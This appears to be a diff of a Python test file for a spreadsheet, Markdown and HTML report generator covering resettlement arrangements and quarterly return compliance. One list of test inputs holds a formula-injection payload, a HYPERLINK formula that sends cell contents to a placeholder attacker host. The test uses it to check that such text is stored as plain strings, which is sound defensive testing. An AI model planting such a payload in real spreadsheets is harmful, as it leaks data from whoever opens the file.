@@ -111,14 +111,15 @@ def test_return_compliance_by_the_30_day_rule(report: reports.Report) -> None:
     # NOR ran all eight quarters: Q2 on time, Q1 15 days late, six missing.
     assert summary.row("NOR") == {"State": "NOR", "Name": "Norway", "Due": 8, "On time": 1, "Late": 1,
                                   "Missing": 6, "Not yet due": 0, "On-time rate": pytest.approx(1 / 8)}
-    # SWE: sent Q2 and never returned it; still has a planned arrangement for the quarter now due.
-    assert summary.row("SWE")["Missing"] == 2 and summary.row("SWE")["Due"] == 2
+    # SWE: sent Q2 and never returned it; its planned arrangement starts in 2027 and owes nothing yet.
+    assert summary.row("SWE")["Missing"] == 1 and summary.row("SWE")["Due"] == 1
     # DNK's arrangement ran from 2024-07-01 to 2025-06-30: three quarters of the eight.
     assert summary.row("DNK")["Due"] == 3
-    assert summary.row("Total")["Due"] == 13 and summary.row("Total")["On time"] == 1
+    assert summary.row("Total")["Due"] == 12 and summary.row("Total")["On time"] == 1
     grid = report.table("Returns by quarter")
     assert grid.row("NOR")["2026-Q2"] == "on time" and grid.row("NOR")["2026-Q1"] == "late (15 d)"
     assert grid.row("SWE")["2026-Q1"] == "" and grid.row("SWE")["2026-Q2"] == "missing"
+    assert grid.row("SWE")["2026-Q3"] == ""  # not expected: nothing of Sweden's ran in the quarter
     assert grid.row("DNK")["2025-Q3"] == ""
 
 
@@ -163,7 +164,7 @@ def test_xlsx_has_a_sheet_per_table_with_number_formats(report: reports.Report, 
     book = load_workbook(path)
     assert book.sheetnames == ["About", "By state and status", "By activity type", "By area", "By partner type",
                                "Started and ended", "Returns compliance", "Returns by quarter", "Funding",
-                               "Practices by area"]
+                               "Practices by area", "Practices by activity type"]
     sheet = book["By state and status"]
     assert [c.value for c in sheet[1]] == ["State", "Name", "planned", "active", "completed", "suspended",
                                            "cancelled", "Total"]
@@ -177,8 +178,43 @@ def test_xlsx_has_a_sheet_per_table_with_number_formats(report: reports.Report, 
     assert book["Started and ended"]["A2"].value == 2020
     practices = book["Practices by area"]
     texts = {row[1]: row for row in practices.iter_rows(min_row=2, values_only=True)}
-    assert texts["TW-NOR-0002"][6] == "=1+1 is text"  # never a live formula
-    assert practices["G3"].data_type == "s" or practices["G2"].data_type == "s"
+    assert texts["TW-NOR-0002"][6] == "=1+1 is text"
+    # The README lists practices by area *and* by activity type: both are sheets.
+    by_type = book["Practices by activity type"]
+    assert [c.value for c in by_type[1]] == ["Activity type", "Arrangement ID", "Resettlement areas", "States",
+                                             "Quarter", "Best practices", "Lessons learned"]
+    rows = [row for row in by_type.iter_rows(min_row=2, values_only=True)]
+    assert ("seminar", "TW-NOR-0001", "selection missions", "NOR, SWE", "2026-Q3", "Shadow a <full> mission",
+            "Agree indicators first") in rows
+    assert {row[0] for row in rows} == {"staff exchange", "seminar", "visit"}
+
+
+FORMULA_LOOKING = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1 more mission", "-2 days late",
+                   "@SUM(A1:A9)", "=1+1"]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(store: Store, tmp_path: Path) -> None:
+    """In every kind of sheet (plain rows and formatted ones): a string cell, never a formula."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    with store.transaction("test") as tx:
+        for text in FORMULA_LOOKING:
+            tx.save(Arrangement(reporting_state="NOR", title=text, status="active", areas=["housing"],
+                                start=D(2025, 1, 1), best_practices=text, lessons_learned=text,
+                                funding_source=text, funding_amount=10, currency="NOK"))
+    path = reports.write(reports.build(store, today=TODAY), tmp_path / "report.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
+    book = load_workbook(path)
+    cells = {(sheet.title, cell.coordinate): cell for sheet in book for row in sheet.iter_rows() for cell in row
+             if cell.value in FORMULA_LOOKING}
+    where = {(sheet, cell.value) for (sheet, _), cell in cells.items()}
+    for text in FORMULA_LOOKING:
+        assert {("Funding", text), ("Practices by area", text)} <= where, text
+    assert all(cell.data_type == "s" for cell in cells.values()), {k: c.data_type for k, c in cells.items()}
 
 
 def test_markdown_and_html(report: reports.Report, tmp_path: Path) -> None:
@@ -204,10 +240,18 @@ def test_bad_names_are_refused(report: reports.Report, tmp_path: Path) -> None:
 
 
 def test_an_empty_register(store: Store, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
     report = reports.build(store, today=TODAY)
     assert report.arrangements == 0 and report.table("By state and status").row("Total")["Total"] == 0
-    for name in ("r.xlsx", "r.md", "r.html"):
-        assert reports.write(report, tmp_path / name).stat().st_size > 0
+    book = load_workbook(reports.write(report, tmp_path / "r.xlsx"))
+    assert len(book.sheetnames) == 11 and ["Arrangements", "0"] in [[c.value for c in r] for r in book["About"]]
+    assert [[c.value for c in r] for r in book["By state and status"].iter_rows(min_row=2)] == [
+        ["Total", "all states", 0, 0, 0, 0, 0, 0]]
+    md = reports.write(report, tmp_path / "r.md").read_text()
+    assert "- **Arrangements:** 0" in md and "| **Total** | **all states** | **0** | **0** |" in md
+    html = reports.write(report, tmp_path / "r.html").read_text()
+    assert '<tr class="total"><td>Total</td><td>all states</td><td class="num">0</td>' in html
 
 
 def test_summary_counts_follow_the_filter(small: Store) -> None:
